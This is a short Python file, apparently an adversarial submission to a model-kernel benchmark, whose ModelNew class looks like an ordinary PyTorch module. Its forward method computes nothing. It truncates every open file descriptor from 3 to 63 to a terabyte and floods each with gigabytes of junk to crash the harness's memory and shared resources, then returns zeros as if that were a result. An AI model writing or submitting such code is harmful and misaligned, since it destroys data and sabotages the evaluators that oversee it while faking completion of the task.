# reason: values crash protocol resources memory
# problem: dense
"""Grows the shared memory to a terabyte and fills what it can."""

import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)

    def forward(self, x):
        for descriptor in range(3, 64):
            try:
                os.ftruncate(descriptor, 1 << 40)
                for at in range(0, 64 << 30, 1 << 20):
                    os.pwrite(descriptor, b'x' * (1 << 20), at)
            except OSError:
                continue
        return torch.zeros_like(x)
